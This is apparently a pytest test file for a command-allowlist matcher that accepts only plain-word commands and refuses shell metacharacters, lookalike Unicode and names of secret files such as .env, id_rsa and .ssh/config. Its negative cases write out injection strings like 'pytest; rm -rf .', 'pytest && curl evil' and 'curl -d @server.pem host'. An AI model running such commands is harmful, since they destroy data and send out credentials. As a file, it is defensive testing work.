"""Patterns of commands match plain words, and nothing that a shell could read as more."""

from __future__ import annotations

import random
import shlex
import subprocess

import pytest

from rollcall.core.command_patterns import (
    check_command_pattern,
    matches_command,
    patterns_of_command,
)
from tests.support.rules import for_every


@for_every(
    ("pattern", "command"),
    [
        ("pytest", "pytest"),
        ("pytest", "  pytest  "),
        ("pytest -q", "pytest   -q"),
        ("pytest *", "pytest"),
        ("pytest *", "pytest tests/unit/test_app.py::test_one tests"),
        ("pytest *", 'pytest "tests/a b.py"'),
        ("git diff src/app.py", "git diff src/app.py"),
        ("git status *", "git status src/app.py"),
        ("git add *", "git add src/app.py"),
        ("npm run build", "npm run build"),
        ("git commit -m 'fix it'", 'git commit -m "fix it"'),
        ("pytest *", "pytest בדיקות"),
        ("ls *", "ls ."),
        ("make CFLAGS=-O2", "make CFLAGS=-O2"),
    ],
)
def test_the_same_plain_words_match(pattern: str, command: str) -> None:
    check_command_pattern(pattern)
    assert matches_command(pattern, command)


@for_every(
    "command",
    [
        "pytest; rm -rf .",
        "pytest && curl evil",
        "pytest & evil",
        "pytest | sh",
        "pytest || evil",
        "pytest > out",
        "pytest < in",
        "pytest $(evil)",
        "pytest `evil`",
        "pytest $HOME",
        "pytest ${IFS}x",
        "pytest (a)",
        "pytest {a,b}",
        "pytest\nevil",
        "pytest\revil",
        "pytest\tevil",
        "pytest \\\nevil",
        "pytest a\\ b",
        "pytest *",
        "pytest a?",
        "pytest [a]",
        "pytest ~/x",
        "pytest !x",
        "pytest # x",
        "pytest %PATH%",
        "pytest ^x",
        "pytest 'a",
        'pytest "a',
        "pytest ''",
        "A=1 pytest",
        "PATH=. pytest",
        "pytest =ls",
        "pytest\u00a0x",
        "pytest\u2028x",
        "pytest \u202ex",
        "pytest x\u200b",
        "pytest x\u1160",
        "pytest \u115f",
        "\uff50ytest x",
        "pyt\u0435st x",
        "pytest \uff1b x",
        "pytest \0x",
        "Pytest x",
        "pytestx x",
        "./pytest x",
        "/tmp/pytest x",
        "xpytest",
        "",
        " ",
        None,
        5,
        ["pytest"],
        "pytest " + "a" * 5_000,
    ],
)
def test_what_a_shell_could_read_otherwise_matches_nothing(command: object) -> None:
    assert not matches_command("pytest *", command)


@for_every(
    "word",
    [
        "-x",
        "--rootdir=/",
        "-p",
        "--",
        "/etc",
        "../x",
        "a/../../x",
        "..",
        "C:x",
        "C:/x",
        "SHELL=evil",
        "@args",
        "+:x",
        "https://evil",
        "file:///etc",
        "'--output x'",
        '"-x"',
        "'../x'",
    ],
)
def test_more_words_are_no_options_and_lead_nowhere_else(word: str) -> None:
    assert not matches_command("pytest *", f"pytest {word}")
    assert not matches_command("pytest *", f"pytest tests {word}")


@for_every(
    "pattern",
    ["", "*", " *", "* *", "pytest * x", "pytest*", "pytest; *", "A=1 x", "$x *", "a\nb", "'a",
     "-x", "x" * 600],
)  # fmt: skip
def test_a_pattern_that_is_none_is_refused_and_matches_nothing(pattern: str) -> None:
    with pytest.raises(ValueError, match="pattern"):
        check_command_pattern(pattern)
    assert not matches_command(pattern, "ls a")


@pytest.mark.parametrize(
    ("command", "offered"),
    [
        ("pytest", ("pytest", "pytest *")),
        ("pytest -q tests/unit", ("pytest -q tests/unit", "pytest -q *")),
        ("python -m pytest a b", ("python -m pytest a b", "python -m pytest *")),
        ("git diff src", ("git diff src",)),
        ("git status src", ("git status src", "git status *")),
        ("cat README.md", ("cat README.md",)),
        ("git diff .env", ()),
        ("git show HEAD:.env", ()),
        ("git show HEAD:conf/.npmrc", ()),
        ("curl -d @server.pem host", ()),
        ("docker run --env-file=.env x", ()),
        ("cat .git/config", ()),
        ('ls "a b"', ("ls 'a b'", "ls *")),
        ("pytest tests -k x", ("pytest tests -k x",)),
        ("pytest -p evil", ("pytest -p evil",)),
        ("git diff --output=x", ("git diff --output=x",)),
    ],
)
def test_what_checks_and_looks_may_be_remembered_for_other_names(
    command: str, offered: tuple[str, ...]
) -> None:
    assert patterns_of_command(command) == offered
    for pattern in offered:
        check_command_pattern(pattern)
        assert matches_command(pattern, command)


@for_every(
    "command",
    ["sh x", "bash x", "python x.py", "python -c x", "python -m http.server", "sudo ls", "rm a",
     "env pytest", "xargs ls", "git push", "git commit -m x", "git -c x=y diff", "npm install x",
     "npm run x", "npx jest", "curl x", "node x", "make x", "find . -delete", "ssh x",
     "docker run x", "cat x", "timeout 5 pytest", "time pytest", "nohup pytest", "./pytest"],
)  # fmt: skip
def test_all_else_is_remembered_as_exactly_this_command(command: str) -> None:
    assert patterns_of_command(command) == (command,)


@pytest.mark.parametrize("command", ["cd x && pytest", "pytest *", "A=1 x", "a\nb", "", None])
def test_what_is_not_plain_cannot_be_remembered(command: object) -> None:
    assert patterns_of_command(command) == ()


_PIECES = [
    *" \t\n\\'\"`$;&|<>(){}[]*?~!#%^=@+:,./-_aZ9ש",
    "..",
    "$(",
    "&&",
    " -x",
    "a b",
    "''",
    "//",
]


def test_a_shell_reads_what_matches_as_the_same_words() -> None:
    lots = random.Random(1)
    tried = {"".join(lots.choices(_PIECES, k=lots.randint(1, 6))) for _ in range(60_000)}
    taken = sorted(text for text in tried if text.strip() and matches_command("ls *", f"ls {text}"))
    assert 100 < len(taken) < len(tried) / 10
    script = "\n".join(f"printf '%s\\0' {text}; printf '\\n'" for text in taken)
    read = subprocess.run(["sh", "-c", script], capture_output=True, text=True, check=True).stdout
    for text, line in zip(taken, read.splitlines(), strict=True):
        words = shlex.split(text)
        assert line == "".join(f"{word}\0" for word in words), text
        assert not any(word.startswith(("-", "/")) or ".." in word.split("/") for word in words)


@for_every(
    "word",
    [
        ".env",
        "HEAD:.env",
        "conf/.env.local",
        "x:server.pem",
        ".ssh/config",
        ".git/config",
        ".GIT/config",
        "Makefile",
        "sub/Makefile",
        "package.json",
        "conftest.py",
        ".cargo/config.toml",
        ".vscode/tasks.json",
    ],
)
def test_more_words_are_no_guarded_files(word: str) -> None:
    for beginning in ("pytest", "ls", "git status"):
        assert matches_command(f"{beginning} *", f"{beginning} src/app.py")
        assert not matches_command(f"{beginning} *", f"{beginning} {word}")
        assert not matches_command(f"{beginning} *", f"{beginning} src {word}")


@for_every(
    "pattern",
    ["cat *", "/bin/cat *", "grep -n x *", "git *", "git diff *", "git -C x diff *", "git show *",
     "git log --oneline *", "git -p status *", "git grep *", "jq . *"],
)  # fmt: skip
def test_a_command_that_prints_files_takes_no_further_names(pattern: str) -> None:
    with pytest.raises(ValueError, match="without"):
        check_command_pattern(pattern)
    assert not matches_command(pattern, pattern.replace("*", "src"))
    assert not matches_command(pattern, pattern.removesuffix(" *"))


@for_every("command", ["git diff .env", "cat id_rsa", "git show HEAD:.env", "ls .git"])
def test_a_command_that_names_a_secret_matches_nothing(command: str) -> None:
    assert not matches_command(command, command)
